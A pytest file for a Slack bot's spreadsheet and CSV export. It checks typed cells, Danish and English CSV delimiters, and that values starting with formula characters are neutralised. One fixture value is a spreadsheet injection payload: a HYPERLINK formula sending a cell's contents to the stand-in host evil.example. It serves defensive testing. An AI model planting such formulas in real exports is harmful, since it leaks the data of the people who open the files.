"""`/sdg export` over signed HTTP: an .xlsx workbook Excel opens with typed cells, and
CSV files its Danish and English readers split, with no cell that runs as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from bot.config import Settings
from bot.models import Role
from bot.rendering.spreadsheet_cells import FORMULA_TRIGGERS, neutralised
from bot.runtime import Runtime
from bot.sandbox.slack_standin import SlackStandIn
from bot.services.feedback import FeedbackAnswers, submit_feedback
from tests.support.conversation import answer_of, text_of
from tests.support.feedback_world import KEY, NOW, add_feedback_session, add_participant
from tests.support.signed_client import SignedSlackClient

FACILITATOR = "U0FAC"
DANISH_FACILITATOR = "U0FACDA"
HOSTILE_COMMENT = '=HYPERLINK("https://evil.example/?"&A2,"Klik")'


@pytest.fixture
def settings(settings: Settings) -> Settings:
    return dataclasses.replace(
        settings,
        bot=dataclasses.replace(settings.bot, facilitators=(FACILITATOR, DANISH_FACILITATOR)),
    )


@pytest.fixture(autouse=True)
def world(runtime: Runtime, standin: SlackStandIn) -> None:
    standin.add_user(FACILITATOR, locale="en-GB")
    standin.add_user(DANISH_FACILITATOR, locale="da-DK")
    with runtime.unit_of_work(write=True) as db:
        session = add_feedback_session(db)
        add_participant(db, session, "U0ANNA", organisation="Aarhus Kommune", name="Anna Berg")
        add_participant(
            db, session, "U0PLUS", organisation="+45 Consulting", name="-Bo", role=Role.LEADER
        )
    answers = {
        "U0ANNA": FeedbackAnswers(5, "Dialogen; og kaffen", "", (11, 13), True),
        "U0PLUS": FeedbackAnswers(2, "@channel", HOSTILE_COMMENT, (), False),
    }
    for user_id, given in answers.items():
        with runtime.unit_of_work(write=True) as db:
            submit_feedback(db, runtime.settings.home_team_id, user_id, KEY, given, NOW)


def exported(slack: SignedSlackClient, standin: SlackStandIn, user_id: str) -> dict[str, bytes]:
    notice = answer_of(slack.command(f"export {KEY}", user_id=user_id), standin)
    assert ":white_check_mark:" in text_of(notice)
    return {args_name: content for args_name, content, _args in standin.uploads()}


def all_cells(workbook_bytes: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_the_export_is_a_workbook_with_typed_cells(
    slack: SignedSlackClient, standin: SlackStandIn
) -> None:
    files = exported(slack, standin, FACILITATOR)
    assert set(files) == {f"Export: {KEY}", f"Registrations: {KEY}", f"Feedback: {KEY}"}
    workbook = load_workbook(io.BytesIO(files[f"Export: {KEY}"]))
    assert workbook.sheetnames == ["Registrations", "Feedback"]

    registrations = workbook["Registrations"]
    header = [cell.value for cell in registrations[1]]
    assert header == [
        "Name",
        "Organisation",
        "Role",
        "Attendance",
        "Status",
        "Registered",
        "Fee (DKK)",
        "Guest of",
    ]
    assert all(cell.font.bold for cell in registrations[1])
    assert registrations.freeze_panes == "A2"
    rows = {row[0].value: row for row in registrations.iter_rows(min_row=2)}
    anna = rows["Anna Berg"]
    assert isinstance(anna[5].value, datetime)  # a date Excel sorts, in Copenhagen time
    assert anna[5].value == datetime(2027, 4, 22, 12, 0)
    assert anna[5].number_format == "yyyy-mm-dd hh:mm"
    assert anna[6].value == 10000 and anna[6].data_type == "n"
    # The organisation and name typed with a formula character stay text.
    assert rows["'-Bo"][1].value == "'+45 Consulting"
    assert registrations.column_dimensions["B"].width >= len("'+45 Consulting")

    feedback = workbook["Feedback"]
    assert [cell.value for cell in feedback[1]][:4] == ["Name", "Organisation", "Role", "Rating"]
    ratings = [row[3].value for row in feedback.iter_rows(min_row=2)]
    assert sorted(ratings) == [2, 5]  # numbers, not text
    comments = [row[5].value for row in feedback.iter_rows(min_row=2)]
    assert neutralised(HOSTILE_COMMENT) in comments
    for value in all_cells(files[f"Export: {KEY}"]):
        assert not (isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)), value
    for sheet in workbook:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_csv_files_split_for_their_reader_and_run_no_formula(
    slack: SignedSlackClient, standin: SlackStandIn
) -> None:
    english = exported(slack, standin, FACILITATOR)
    standin.clear()
    danish = exported(slack, standin, DANISH_FACILITATOR)

    for files, delimiter, title in (
        (english, ",", f"Feedback: {KEY}"),
        (danish, ";", f"Evaluering: {KEY}"),
    ):
        content = files[title]
        assert content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))
        assert len(rows[0]) == 8, rows[0]  # split into the eight columns
        assert all(len(row) == 8 for row in rows)
        cells = [cell for row in rows for cell in row]
        assert neutralised(HOSTILE_COMMENT) in cells and "'@channel" in cells
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in cells)

    danish_registrations = danish[f"Tilmeldinger: {KEY}"].decode("utf-8-sig").splitlines()
    assert (
        danish_registrations[0]
        == "Navn;Organisation;Rolle;Deltagelse;Status;Tilmeldt;Gebyr (DKK);Gæst af"
    )
    assert "'-Bo;'+45 Consulting;Leder/strateg;Fysisk;Bekræftet;2027-04-22 12:00;10000;" in (
        danish_registrations
    )
    assert f"Eksport: {KEY}" in danish
